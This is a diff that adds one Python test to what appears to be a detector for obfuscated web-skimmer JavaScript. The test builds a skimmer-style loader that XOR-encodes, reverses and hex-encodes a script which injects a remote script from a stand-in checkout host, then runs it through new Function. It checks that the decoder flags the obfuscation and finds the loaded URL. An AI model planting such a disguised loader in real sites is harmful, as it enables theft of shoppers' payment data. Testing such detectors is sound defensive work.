@@ -186,6 +186,23 @@ def test_xor_decoding_run_by_another_spelling_is_machine_obfuscation(xor: str, r
     assert decoded.machine and "XOR" in " ".join(decoded.signals), decoded.signals
 
 
+def test_code_decoded_by_xor_with_a_key_the_script_holds_is_read() -> None:
+    """The skimmer's shape with its key a literal of the script (not the page's host):
+    the decoder reads what runs, so the address it loads is found as loaded."""
+    key = "k3yZ"
+    hidden = "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(
+        "var s=document.createElement('script');s.src='https://cdn.checkout-metrics.test/c.js';"
+        "document.head.appendChild(s);"))[::-1]
+    code = ("!function(z,t){!(function(z){var n=(function(z,t){return z.split('').map("
+            "function(z,n){return String.fromCharCode(z.charCodeAt(0)^t.charCodeAt(n%t.length))"
+            "}).join('');})(z.split('').reverse().join(''),t);try{new Function(n)();}catch(e){}"
+            f"}})(z)}}('{hexed(hidden)}','{key}');")
+    decoded = decode_script(code)
+    assert decoded.machine
+    assert [(u.url, u.loaded) for u in decoded.urls] == [
+        ("https://cdn.checkout-metrics.test/c.js", True)], decoded.urls
+
+
 def test_unpack_round_trip() -> None:
     assert unpack(packed(LOADER)) == LOADER
 
